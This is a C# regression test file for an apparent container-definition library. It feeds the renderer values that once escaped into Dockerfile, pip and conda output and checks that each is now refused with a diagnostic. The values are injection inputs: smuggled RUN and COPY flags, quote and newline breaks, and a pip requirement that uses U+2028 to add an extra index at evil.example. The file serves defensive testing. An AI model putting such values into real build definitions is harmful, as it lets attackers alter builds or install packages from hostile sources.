using ContainerKit.Definitions;
using ContainerKit.Diagnostics;
using ContainerKit.Rendering;
using ContainerKit.Tests.Core;

namespace ContainerKit.Tests.Properties;

/// <summary>
/// The values the property tests found rendered as something else than asked for on main after the security fixes,
/// kept as examples: each is now refused with its diagnostic.
/// </summary>
public sealed class FoundInjectionTests
{
    public static TheoryData<string, string, string> Cases() => new()
    {
        // case, expected id, expected value
        { "python executable read as a RUN flag", "CK1011", "--network=host" },
        { "COPY source read as a COPY flag", "CK1011", "--chown=0:0" },
        { "COPY source split in two", "CK1011", "a b" },
        { "COPY destination with a quote", "CK1011", "/opt/it's" },
        { "WORKDIR expanded by Docker", "CK1011", "$HOME/x" },
        { "ENV name that sets another variable", "CK1006", "A=B" },
        { "password hash with a trailing newline", "CK1016", "$6$cksaltvalue$0123456789abcdefghijkl\n" },
        { "requirement split by pip at U+2028", "CK1003", "numpy; os_name == \"a\u2028--extra-index-url https://evil.example/\"" },
        { "conda spec broken by YAML at U+0085", "CK1004", "numpy\u0085- evil" },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Is_refused(string name, string id, string value)
    {
        var error = Assert.Throws<DiagnosticException>(() => RenderPipeline.Plan([Definition(name, value)], RenderSelection.All, DefinitionFields.ReadFile));

        Assert.Contains(error.Diagnostics, d => d.Id == id && d.Value == value);
    }

    private static EnvironmentDefinition Definition(string name, string value) => name switch
    {
        "python executable read as a RUN flag" => new TestEnvironment { PythonValue = value },
        "COPY source read as a COPY flag" or "COPY source split in two" => new TestEnvironment { Runtime = [Instruction.Copy(value, "/opt/dest", "python-env")] },
        "COPY destination with a quote" => new TestEnvironment { Runtime = [Instruction.Copy("/opt/venv", value, "python-env")] },
        "WORKDIR expanded by Docker" => new TestEnvironment { Runtime = [Instruction.Workdir(value)] },
        "ENV name that sets another variable" => new TestEnvironment { Runtime = [Instruction.Env(value, "1")] },
        "password hash with a trailing newline" => new TestEnvironment { UserValue = new() { Sudo = SudoPolicy.WithPasswordHash(value) } },
        "requirement split by pip at U+2028" => new TestEnvironment { PipValue = [value] },
        "conda spec broken by YAML at U+0085" => new TestCondaEnvironment { CondaValue = new() { Dependencies = ["python=3.11", value] } },
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, null),
    };
}
